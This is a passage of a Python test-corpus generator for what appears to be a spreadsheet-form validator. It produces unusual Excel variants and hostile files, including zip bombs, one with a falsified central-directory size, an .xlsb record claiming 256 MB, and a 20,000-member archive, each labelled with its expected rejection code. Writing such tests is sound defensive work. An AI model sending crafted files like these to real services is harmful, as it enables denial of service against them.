        json.dumps(manifest, ensure_ascii=False, indent=1, sort_keys=True) + "\n", encoding="utf-8"
    )
    return manifest


def add_office_files(add: Callable[..., None], files: Path, form: bytes, src: Path) -> None:
    """Files written the way other suites and older programs write them (#17), each with its outcome."""
    add(
        "formatted-to-last-row.xlsx",
        formatted_to_last_row(form),
        [],
        SCORED,
        "Mac Excel: formatted down to row 1,048,576, the dimension saying so; values only in the form",
    )
    add(
        "comment-last-cell.xlsx",
        comment_in_last_cell(form),
        [],
        SCORED,
        "Excel 2007: a comment on XFD1048576, the dimension to it",
    )
    add(
        "gnumeric-style.xlsx",
        gnumeric_style(form),
        [],
        SCORED,
        "Gnumeric: dimension A1:IV65536 and formatted empty cells out to IV65536",
    )
    add(
        "unusual-part-names.xlsx",
        unusual_part_names(form),
        [],
        SCORED,
        "a valid package with its parts under excel/ (named by its relationships): read by openpyxl",
    )
    biff5_book(files / "excel95.xls")
    add(
        "excel95.xls",
        None,
        ["old-excel-format"],
        FAILED,
        "an Excel 5.0/95 workbook (OLE2, Book stream, BIFF5)",
    )
    add("excel4.xls", EXCEL4, ["old-excel-format"], FAILED, "an Excel 4.0 worksheet (a bare BIFF4 stream)")
    binary = xlsb_form(src)
    add("form.xlsb", binary, [], SCORED, "the form saved as an Excel binary workbook (.xlsb)")
    add(
        "xlsb-lying-record.xlsb",
        xlsb_lying_record(binary),
        ["unreadable-file"],
        FAILED,
        "an .xlsb record claiming 256 MB in a small file",
    )
    add(
        "xlsb-far-cell.xlsb",
        xlsb_far_cell(binary),
        ["sheet-too-large"],
        FAILED,
        "an .xlsb with a value at XFD1048576",
    )


#: the big cases: name → (codes, status, note); made by :func:`make_big`
BIG = {
    "zip-bomb.xlsx": (["zip-bomb"], FAILED, "a 1.1 GB sheet in a ~1 MB file"),
    "zip-bomb-lying.xlsx": (["zip-bomb"], FAILED, "the same, with a central directory claiming 1000 bytes"),
    "blank-rows.xlsx": ([], SCORED, "a million formatted blank rows after the form"),
    "many-members.xlsx": (["too-many-members"], FAILED, "20,000 zip members"),
}


def make_big(out: Path, form: Path, names: list[str] | None = None) -> dict[str, dict[str, object]]:
    """Write the big cases (all, or ``names``) into ``out`` from the victim's valid ``form``."""
    out.mkdir(parents=True, exist_ok=True)
    data = form.read_bytes()
    manifest: dict[str, dict[str, object]] = {}
    for name in names or list(BIG):
        path = out / name
        if name == "zip-bomb.xlsx":
            zip_bomb(data, path)
        elif name == "zip-bomb-lying.xlsx":
            honest = out / "zip-bomb.xlsx"
            if honest.exists():  # the same bytes, then the sizes patched: no second compression
                path.write_bytes(honest.read_bytes())
                _declare_size(path, SHEET, 1000)
            else:
                zip_bomb(data, path, lie=True)
        elif name == "blank-rows.xlsx":
            path.write_bytes(blank_rows(data))
        elif name == "many-members.xlsx":
            path.write_bytes(many_members(data))
        codes, status, note = BIG[name]
        manifest[name] = {
            "codes": codes,
            "status": status,
            "county": VICTIM.code,
            "mode": "replace",
            "note": note,
        }
    return manifest


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("out", type=Path, help="folder for the corpus (tests/corpus)")
    parser.add_argument(
        "--big", action="store_true", help="also write the big files (zip bombs, 1M rows, 20k members)"
    )
    parser.add_argument(
        "--big-only",
        metavar="NAME,...",
        help="write only these big files (comma-separated) and their manifest.json into OUT, from --form",
    )
    parser.add_argument("--form", type=Path, help="with --big-only: the victim county's valid form")
    args = parser.parse_args(argv)
    if args.big_only:
        if args.form is None:
            parser.error("--big-only needs --form")
        big = make_big(args.out, args.form, [n.strip() for n in args.big_only.split(",") if n.strip()])
        (args.out / "manifest.json").write_text(
            json.dumps(big, ensure_ascii=False, indent=1, sort_keys=True) + "\n", encoding="utf-8"
        )
        print(f"{len(big)} big corpus files in {args.out}", file=sys.stderr)
        return
    manifest = make_small(args.out)
    if args.big:
        big = make_big(args.out / "big", args.out / "province" / form_name(VICTIM))
        manifest.update({f"big/{k}": v for k, v in big.items()})
    print(f"{len(manifest)} corpus files in {args.out}", file=sys.stderr)


if __name__ == "__main__":
    main()
